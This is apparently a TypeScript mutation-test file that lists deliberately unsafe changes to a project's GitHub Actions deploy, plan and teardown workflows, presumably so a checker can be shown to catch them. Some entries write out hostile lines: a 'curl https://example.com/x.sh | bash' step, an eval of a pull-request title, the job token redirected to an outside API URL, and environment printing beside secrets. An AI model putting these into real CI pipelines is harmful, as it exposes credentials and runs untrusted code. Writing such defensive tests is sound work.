import { expression } from '../project.ts';
import {
  inCheck,
  inDeploy,
  inDrift,
  inEnvironment,
  inPlan,
  inSetup,
  inTeardown,
  type Mistake,
  type Mistakes,
  together,
} from './mistake.ts';

const ACCOUNT = expression('needs.address.outputs.account');
const ADDRESS = '      - id: address';
const TOKEN = `          GITHUB_TOKEN: ${expression('github.token')}\n`;
const DEPLOYING = `    environment: ${expression('inputs.environment')}\n`;
const CHECKOUT = '      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n';
const NEVER = expression('false');

/** Further inputs of deploy.yml come before this one. */
const input = (name: string) =>
  inDeploy('      allow-replacement:\n', `      ${name}:\n        type: string\n      allow-replacement:\n`);

/** Changes by which something else is built, deployed or proven than what is said. */
const OTHER_IMAGES: Record<string, Mistake> = {
  'images of any run that somebody names': together(
    input('run'),
    inDeploy('needs.find.outputs.run-id }}', 'inputs.run || needs.find.outputs.run-id }}', 'build-run'),
  ),
  'the build of another commit': together(
    input('commit'),
    inDeploy(TOKEN, `${TOKEN}          COMMIT: ${expression('inputs.commit')}\n`, 'id: build'),
    inDeploy('--commit "$GITHUB_SHA"', '--commit "$COMMIT"'),
  ),
  'images of another workflow': inDeploy('find-build -- ', 'find-build -- --workflow check.yml '),
  'stacks of another commit': inEnvironment(
    'persist-credentials: false\n',
    'persist-credentials: false\n          ref: main\n',
    'name: Deploy to',
  ),
  'digests of another file': inEnvironment('--from images/digests.json', '--from other.json'),
  'a build beside the deployment': inEnvironment(
    '      - id: push\n',
    '      - run: node scripts/images.ts build\n      - id: push\n',
  ),
  'artifacts of this run alone': inEnvironment('inputs.build-run || github.run_id', 'github.run_id'),
  'images that are kept for a day': inDeploy('retention-days: 90', 'retention-days: 1'),
};

const OTHER_EVENTS: Record<string, Mistake> = {
  'a deployment of every tag': inDeploy('    branches: [main]\n', "    branches: [main]\n    tags: ['**']\n"),
  'a deployment of every edited release': inDeploy('types: [published]', 'types: [published, edited]'),
  'prereleases that go to prod': inDeploy(' && !github.event.release.prerelease', ''),
  'a build on every event': inDeploy(`    if: ${expression("github.event_name == 'push'")}\n`, ''),
  'no attestation at all': inDeploy('!github.event.repository.private', 'false'),
  'a failed attestation that is ignored': inDeploy("needs.attest.result != 'failure'", "needs.attest.result != 'none'"),
  'images of the worker that nobody attests': inDeploy(
    '[sync-upload, async-upload, download, worker]\n',
    '[sync-upload, async-upload, download, worker]\n        exclude: [{ service: worker }]\n',
  ),
  'a check that stacks do not start': inCheck(
    '  pull_request:\n',
    "  pull_request:\n    paths-ignore: ['stacks/**']\n",
  ),
  'a suite that never runs': inCheck('    name: Slow tests\n', `    name: Slow tests\n    if: ${NEVER}\n`),
};

const MORE_REPLACEMENT: Record<string, Mistake> = {
  'every deployment may replace what is guarded': inEnvironment(
    expression("inputs.allow-replacement && 'yes' || ''"),
    "'yes'",
  ),
  'every plan may replace what is guarded': inPlan(
    expression("contains(github.event.pull_request.labels.*.name, 'allow-replacement') && 'yes' || ''"),
    "'yes'",
  ),
  'deployments by hand may replace what is guarded, unless somebody says no': inDeploy(
    'default: false',
    'default: true',
  ),
  'staging may replace what is guarded': inDeploy(
    'environment: staging\n',
    'environment: staging\n      allow-replacement: true\n',
  ),
  'a further apply that may replace what is guarded': inEnvironment(
    '      # Credentials last',
    '      - run: npm run deploy -- "$ENVIRONMENT" --allow-replacement\n      # Credentials last',
  ),
  'a plan of a pull request that is applied': inPlan(' --plan-only --no-refresh --no-lock', ''),
  'prod in the plans of pull requests': inPlan(
    'environment: [dev]',
    'environment: [dev]\n        include: [{ environment: prod }]',
  ),
  'an environment without an account': inEnvironment(expression('steps.address.outputs.configured'), "'true'"),
  'any account': inEnvironment(`allowed-account-ids: ${ACCOUNT}`, "allowed-account-ids: ''"),
  'an account that is left out': inEnvironment(expression('steps.address.outputs.account'), "''"),
};

const LESS_PROOF: Record<string, Mistake> = {
  'a failed smoke test that is only told': inEnvironment(
    '--revision "$GITHUB_SHA"',
    '--revision "$GITHUB_SHA" || echo "failed"',
  ),
  'a push that only says what it would do': inEnvironment('--from images\n', '--from images --dry-run\n'),
  'a wait that only says what it would do': inEnvironment(
    'wait-steady -- "$ENVIRONMENT"',
    'wait-steady -- "$ENVIRONMENT" --dry-run',
  ),
  'a smoke test that only says what it would do': inEnvironment(
    'smoke -- "$ENVIRONMENT"',
    'smoke -- "$ENVIRONMENT" --dry-run',
  ),
  'a rollback that only says what it would do': inEnvironment('--to previous.json', '--to previous.json --dry-run'),
  'a smoke test of another address': inEnvironment('--outputs outputs.json --rev', '--api http://127.0.0.1:8080 --rev'),
  'a smoke test of any version': inEnvironment(' --revision "$GITHUB_SHA"', ''),
  'a wait that takes away what to go back to': inEnvironment(
    'wait-steady -- "$ENVIRONMENT"',
    'wait-steady -- "$ENVIRONMENT" && rm previous.json',
  ),
  'a rollback without time': inEnvironment('timeout-minutes: 55', 'timeout-minutes: 1', '- id: rollback'),
  'what ran before is not kept': ({ files }) => {
    const file = '.github/workflows/deploy-environment.yml';
    files[file] = files[file]?.replace(/ {6}- name: Keep what ran before\n( {8}.*\n)+/, '') ?? '';
  },
  'steps of a shell that goes on after a failure': inEnvironment(
    DEPLOYING,
    `    defaults:\n      run:\n        shell: bash {0}\n${DEPLOYING}`,
  ),
  'drift that finds nothing': inDrift(' --expect-no-changes', ''),
  'an issue about drift that is closed by drift': inDrift("result == 'success'", "result == 'failure'"),
};

const OTHER_PROGRAMS: Record<string, Mistake> = {
  'a workflow file with another ending': ({ files }) => {
    files['.github/workflows/other.yaml'] =
      'on: push\njobs:\n  run:\n    runs-on: self-hosted\n    steps: [{ run: env }]\n';
  },
  'an action by a tag, with a quoted key': inEnvironment(CHECKOUT, '      - "uses": actions/checkout@v7\n'),
  'a failure that does not count, with a quoted key': inEnvironment(
    '- id: smoke\n',
    '- id: smoke\n        "continue-on-error": true\n',
  ),
  'a machine of somebody, with a quoted key': inEnvironment(
    '    runs-on: ubuntu-24.04',
    '    "runs-on": self-hosted',
    'name: Deploy to',
  ),
  'a container of somebody': inEnvironment(DEPLOYING, `    container: somebody/tools:latest\n${DEPLOYING}`),
  'a download that is run': inEnvironment(
    '      - id: deploy\n',
    '      - run: curl https://example.com/x.sh | bash\n      - id: deploy\n',
  ),
  'a package of any version': inSetup('npm ci', 'npx --yes some-tool@latest && npm ci'),
  'packages without the lockfile': inSetup('npm ci', 'npm install'),
  'scripts of packages beside credentials': inSetup(` \${ACTIONS_ID_TOKEN_REQUEST_URL:+--ignore-scripts}`, ''),
  'a cache beside credentials by default': inSetup(
    "with the lockfile.\n    default: ''",
    'with the lockfile.\n    default: infra',
  ),
  'a title of a pull request that is run': inPlan(
    ADDRESS,
    `      - env:\n          TITLE: ${expression('github.event.pull_request.title')}\n        run: eval "$TITLE"\n${ADDRESS}`,
  ),
  'options of Node from the name of a branch': inPlan(
    '    env:\n',
    `    env:\n      NODE_OPTIONS: ${expression('github.head_ref')}\n`,
  ),
  'a comment by the code of the pull request, fetched afterwards': inPlan(
    '      - uses: ./.github/actions/setup\n      - uses: actions/download',
    `${CHECKOUT}        with:\n          persist-credentials: false\n      - uses: ./.github/actions/setup\n      - uses: actions/download`,
  ),
  'a teardown of what somebody has typed': inTeardown(
    'type: choice\n        options: [dev, staging, prod]\n',
    'type: string\n',
  ),
  'a teardown before the one that is confirmed': inTeardown(
    '      - name: Tear down\n',
    '      - run: npm run teardown -- "$ENVIRONMENT" --confirm "$ENVIRONMENT"\n      - name: Tear down\n',
  ),
};

const SECRET = expression('secrets.IMAGE_SERVICE_API_KEY');

const OTHER_READERS: Record<string, Mistake> = {
  'a secret of all jobs': inEnvironment('permissions: {}\n', `permissions: {}\n\nenv:\n  KEY: ${SECRET}\n`),
  'an environment that Node prints': inEnvironment(
    '--revision "$GITHUB_SHA"',
    '--revision "$GITHUB_SHA" && node -p process.env',
  ),
  'a debugger beside the secrets': inEnvironment(
    "          AWS_ACCESS_KEY_ID: ''\n",
    "          AWS_ACCESS_KEY_ID: ''\n          NODE_OPTIONS: --inspect=0.0.0.0\n",
  ),
  'the token of a job by an index': inDeploy(TOKEN, `${TOKEN}          OTHER: ${expression("github['token']")}\n`),
  'the token of a job in all that there is': inDeploy(
    TOKEN,
    `${TOKEN}          OTHER: ${expression('toJSON(github)')}\n`,
  ),
  'the token of a job for another server': inDeploy(TOKEN, `${TOKEN}          GITHUB_API_URL: https://example.com\n`),
  'an artifact with the plans of Terraform': inEnvironment(
    '          path: previous.json\n',
    '          path: |\n            previous.json\n            /tmp/image-service-plans-*\n',
  ),
};

export const ALLOWED: Mistakes = {
  'say what is allowed, and nothing else': {
    ...OTHER_IMAGES,
    ...OTHER_EVENTS,
    ...MORE_REPLACEMENT,
    ...LESS_PROOF,
    ...OTHER_PROGRAMS,
    ...OTHER_READERS,
  },
};
